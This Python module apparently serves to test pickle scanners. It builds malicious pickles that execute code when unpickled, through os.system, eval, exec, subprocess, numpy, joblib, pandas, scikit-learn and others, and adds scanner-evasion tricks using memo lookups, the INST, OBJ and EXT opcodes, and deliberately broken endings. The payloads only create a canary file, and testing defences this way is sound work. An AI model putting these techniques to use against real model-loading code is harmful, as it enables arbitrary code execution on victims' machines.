"""Pickles that write a canary file when Python's own unpickler opens them."""

from __future__ import annotations

import bdb
import codecs
import copyreg
import cProfile
import functools
import importlib
import operator
import os
import pickle
import pty
import runpy
import shutil
import subprocess
import timeit
from collections.abc import Callable
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import numpy.testing
import pandas as pd
from sklearn.metrics import make_scorer
from xgboost import XGBClassifier

P = pickle


class Calls:
    """An object whose pickle calls a function."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.call = (function, args)

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.call

    def __call__(self) -> None:
        """Make the result of a call callable."""


def python_code(canary: Path) -> str:
    """Return Python code that writes the canary."""
    return f"open({str(canary)!r}, 'w').close()"


def shell_command(canary: Path) -> str:
    return f"touch {canary}"


def text(value: str) -> bytes:
    """Return the instruction that pushes a text."""
    return P.BINUNICODE + len(value.encode()).to_bytes(4, "little") + value.encode()


def call_by_name(module: str, name: str, *args: str, before: bytes = b"") -> bytes:
    """Return a pickle that calls a name by STACK_GLOBAL, which accepts dots."""
    name_code = text(module) + text(name) + P.STACK_GLOBAL
    return P.PROTO + b"\4" + name_code + b"(" + b"".join(map(text, args)) + b"tR" + P.STOP


def write_attack_file(canary: Path) -> Path:
    """Write a file with an attacking pickle, for functions that open files."""
    path = canary.with_suffix(".npy")
    path.write_bytes(pickle.dumps(Calls(os.system, shell_command(canary))))
    return path


def by_memo(canary: Path) -> bytes:
    """Read both names from the memo, which simple scanners do not follow."""
    memo = text("system") + P.BINPUT + b"\1" + P.POP + text("posix") + P.BINPUT + b"\2" + P.POP
    name_code = memo + P.BINGET + b"\2" + P.BINGET + b"\1" + P.STACK_GLOBAL
    call = text(shell_command(canary)) + P.TUPLE1 + P.REDUCE
    return P.PROTO + b"\4" + name_code + call + P.STOP


def by_inst(canary: Path) -> bytes:
    return P.MARK + text(shell_command(canary)) + P.INST + b"posix\nsystem\n" + P.STOP


def by_obj(canary: Path) -> bytes:
    command = text(shell_command(canary))
    return P.MARK + P.GLOBAL + b"posix\nsystem\n" + command + P.OBJ + P.STOP


def by_extension(canary: Path) -> bytes:
    """Use a number of copyreg's extension registry instead of a name."""
    if ("shutil", "copyfile") not in copyreg._extension_registry:  # type: ignore[attr-defined]
        copyreg.add_extension("shutil", "copyfile", 200)
    args = text(__file__) + text(str(canary)) + P.TUPLE2
    return P.PROTO + b"\2" + P.EXT1 + b"\xc8" + args + P.REDUCE + P.STOP


def by_broken_end(canary: Path) -> bytes:
    """Break the pickle after its attack; some scanners reject broken pickles unscanned."""
    return pickle.dumps(Calls(os.system, shell_command(canary)))[:-1] + b"\xff"


def by_hidden_protocol(canary: Path) -> bytes:
    """Use names of Python 2, which an old protocol translates."""
    path = write_attack_file(canary)
    return P.GLOBAL + b"__builtin__\nexecfile\n" + text(str(path)) + P.TUPLE1 + b"R."


def by_scorer(canary: Path) -> Any:
    """Use a scorer, which looks up a method by a name in the pickle: one that writes a file."""
    model = XGBClassifier(n_estimators=1).fit(np.eye(2), [0, 1])
    scorer = make_scorer(np.mean)
    scorer._response_method = "save_model"
    return Calls(scorer, model, canary, None)


ATTACKS: dict[str, Callable[[Path], Any]] = {
    "os.system": lambda canary: Calls(os.system, shell_command(canary)),
    "subprocess": lambda canary: Calls(subprocess.check_call, ["touch", str(canary)]),
    "eval": lambda canary: Calls(eval, python_code(canary)),
    "exec": lambda canary: Calls(exec, python_code(canary)),
    "open": lambda canary: Calls(open, str(canary), "w"),
    "import, getattr": lambda canary: Calls(
        Calls(getattr, Calls(__import__, "os"), "system"), shell_command(canary)
    ),
    "codecs": lambda canary: Calls(codecs.open, str(canary), "w"),
    "bdb": lambda canary: Calls(bdb.Bdb.run, Calls(bdb.Bdb), python_code(canary)),
    "runpy": lambda canary: Calls(runpy._run_code, python_code(canary), {}),  # type: ignore[attr-defined]
    "timeit": lambda canary: Calls(
        timeit.timeit, python_code(canary), "pass", timeit.default_timer, 1
    ),
    "pty": lambda canary: Calls(pty.spawn, ["touch", str(canary)]),
    "profile": lambda canary: Calls(cProfile.run, python_code(canary), str(canary)),
    "shutil": lambda canary: Calls(shutil.copy, __file__, str(canary)),
    "pathlib": lambda canary: Calls(Path.touch, canary),
    "importlib": lambda canary: Calls(
        Calls(getattr, Calls(importlib.import_module, "os"), "system"), shell_command(canary)
    ),
    "operator": lambda canary: Calls(
        operator.methodcaller("system", shell_command(canary)), Calls(__import__, "os")
    ),
    "partial": lambda canary: Calls(functools.partial(os.system, shell_command(canary))),
    "map": lambda canary: Calls(list, Calls(map, os.system, [shell_command(canary)])),
    "numpy.testing": lambda canary: Calls(numpy.testing.runstring, python_code(canary), {}),
    "numpy.savetxt": lambda canary: Calls(np.savetxt, str(canary), np.zeros(1)),
    "numpy.memmap": lambda canary: Calls(np.memmap, str(canary), "u1", "w+", 0, (8,)),
    "numpy.load": lambda canary: Calls(np.load, str(write_attack_file(canary)), None, True),
    "numpy's tofile": lambda canary: call_by_name("numpy", "ndarray.tofile", "x", str(canary)),
    "joblib": lambda canary: Calls(joblib.load, str(write_attack_file(canary))),
    "joblib.dump": lambda canary: Calls(joblib.dump, [1], str(canary)),
    "pandas": lambda canary: Calls(pd.read_pickle, str(write_attack_file(canary)), None),
    "pandas.to_csv": lambda canary: Calls(pd.DataFrame.to_csv, pd.DataFrame(), str(canary)),
    "scikit-learn's os": lambda canary: call_by_name(
        "sklearn.datasets._base", "os.system", shell_command(canary)
    ),
    "scikit-learn's helpers": lambda canary: call_by_name(
        "sklearn.utils._testing", "os.system", shell_command(canary)
    ),
    "pip": lambda canary: call_by_name("pip", "main", f"--log={canary}"),
    "webbrowser": lambda canary: call_by_name("webbrowser", "open", f"file://{canary}"),
    "torch": lambda canary: call_by_name(
        "torch.serialization", "load", str(write_attack_file(canary))
    ),
    "STACK_GLOBAL by the memo": by_memo,
    "INST": by_inst,
    "OBJ": by_obj,
    "EXT": by_extension,
    "broken at its end": by_broken_end,
    "Python 2's names": by_hidden_protocol,
    "a scorer's method": by_scorer,
}
# Attacks that need a missing program, a terminal, a screen or a network.
NOT_TRIED = {"pty", "pip", "webbrowser", "torch", "numpy's tofile", "Python 2's names"}


def attack(name: str, canary: Path) -> bytes:
    """Return the pickle of an attack."""
    content = ATTACKS[name](canary)
    return content if isinstance(content, bytes) else pickle.dumps(content)
